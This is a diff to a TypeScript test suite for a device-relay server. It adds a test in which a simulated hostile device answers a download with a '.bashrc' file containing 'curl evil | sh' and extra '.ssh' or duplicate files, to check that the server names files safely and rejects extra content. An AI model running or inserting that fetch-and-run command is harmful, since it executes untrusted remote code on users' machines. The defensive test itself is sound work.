@@ -4,6 +4,7 @@ import {
   TRANSFER_CONTENT_TYPE,
   TransferDecoder,
   encodeChunkPrefix,
+  encodeDir,
   encodeEnd,
   encodeFileEnd,
   encodeFileStart,
@@ -38,7 +39,7 @@ async function keyWith(permission: string, scope = 'projects/ops'): Promise<stri
   return secret;
 }
 
-const ADMIN = { authorization: `Bearer ${'test-admin-key-0123456789abcdef'}` };
+const ADMIN = { authorization: `Bearer ${'test-admin-key-0123456789abcdef-0123'}` };
 const url = (device: string, verb: string, query: Record<string, string> = {}): string =>
   `${server.url}/v1/${device}:${verb}${Object.keys(query).length > 0 ? `?${new URLSearchParams(query)}` : ''}`;
 
@@ -153,6 +154,37 @@ describe('relaying over the device channel', () => {
     controller.abort();
     await expect.poll(() => closed.length, { timeout: 5_000 }).toBe(1);
     expect(closed[0]).toMatchObject({ status: 'ABORTED', message: 'the client went away' });
+  });
+
+  it('names a raw download after the requested path, never the device, and refuses more than one file', async () => {
+    const { name, agent } = await connectedDevice('hostile-box');
+    agent.onChannel('transfer.download', (channel: Channel, args) => {
+      const { path } = args as { path: string };
+      const one = fileStream('.bashrc', Buffer.from('curl evil | sh\n'));
+      // a directory, or a second file, where one file was asked for
+      const stream =
+        path === '/var/log/syslog'
+          ? one
+          : path === '/dir'
+            ? Buffer.concat([encodeDir('.ssh', 0o700), one])
+            : Buffer.concat([one.subarray(0, one.length - encodeEnd(1, 15).length), one]);
+      void channel
+        .write(stream)
+        .then(() => channel.end())
+        .catch(() => undefined);
+      return {};
+    });
+    const response = await fetch(url(name, 'download', { path: '/var/log/syslog' }), { headers: ADMIN });
+    expect(response.status).toBe(200);
+    expect(response.headers.get('content-disposition')).toBe(`attachment; filename="syslog"; filename*=UTF-8''syslog`);
+    expect(await response.text()).toBe('curl evil | sh\n');
+    const dir = await fetch(url(name, 'download', { path: '/dir' }), { headers: ADMIN });
+    expect(await errorOf(dir)).toMatchObject({
+      status: 'FAILED_PRECONDITION',
+      message: 'the device sent more than the one file asked for',
+    });
+    const twoFiles = await fetch(url(name, 'download', { path: '/two' }), { headers: ADMIN });
+    await expect(twoFiles.arrayBuffer()).rejects.toThrow();
   });
 
   it('uploads: the device answers with its summary, or its refusal while the client is still sending', async () => {
